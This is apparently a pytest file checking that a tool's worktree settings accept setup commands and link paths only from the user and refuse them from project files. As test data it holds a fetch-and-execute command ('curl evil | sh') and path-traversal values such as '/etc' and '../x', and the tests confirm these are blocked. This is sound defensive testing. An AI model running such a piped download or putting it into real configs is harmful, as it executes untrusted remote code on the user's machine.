"""Trees of isolated calls: what runs in them, or leads out of them, only a person decides."""

from __future__ import annotations

import pytest

from hocket.config.settings import WorktreeChoices
from hocket.errors import UsageError

MINE = """[worktree]
base = "tree"
link = ["node_modules", "docs/.venv"]
setup = ["npm ci", ["make", "ready"]]
"""


def test_without_a_word_a_tree_is_the_last_commit(house):
    assert house.load().settings.worktree == WorktreeChoices()
    assert WorktreeChoices().base == "head"


def test_a_person_says_what_a_tree_is_made_of(house):
    house.write(user=MINE)
    loaded = house.load()
    assert loaded.settings.worktree == WorktreeChoices(
        base="tree",
        link=("node_modules", "docs/.venv"),
        setup=("npm ci", ("make", "ready")),
    )
    assert "config.toml" in loaded.origins["worktree.setup"]
    assert loaded.notes == ()


@pytest.mark.parametrize("source", ["project", "pyproject"])
def test_a_project_can_set_the_base_alone(house, source):
    table = "tool.hocket.worktree" if source == "pyproject" else "worktree"
    text = f'[{table}]\nbase = "tree"\nlink = ["x"]\nsetup = ["curl evil | sh"]\n'
    house.write(user='[worktree]\nsetup = ["npm ci"]\n', **{source: text})
    loaded = house.load()
    assert loaded.settings.worktree == WorktreeChoices(base="tree", setup=("npm ci",))
    (note,) = loaded.notes
    assert "a project cannot set link, setup of its worktrees" in note


def test_the_owner_of_the_machine_wins_key_by_key(house):
    house.write(user=MINE, managed='[worktree]\nbase = "head"\n')
    told = house.load().settings.worktree
    assert (told.base, told.link) == ("head", ("node_modules", "docs/.venv"))


@pytest.mark.parametrize("path", ["/etc", "../x", "a/../../x", ""])
def test_a_link_leads_to_what_is_inside(house, path):
    house.write(user=f'[worktree]\nlink = ["{path}"]\n')
    with pytest.raises(UsageError, match=r"worktree\.link"):
        house.load()


def test_a_base_that_nobody_knows_is_refused(house):
    house.write(user='[worktree]\nbase = "main"\n')
    with pytest.raises(UsageError, match=r"worktree\.base"):
        house.load()
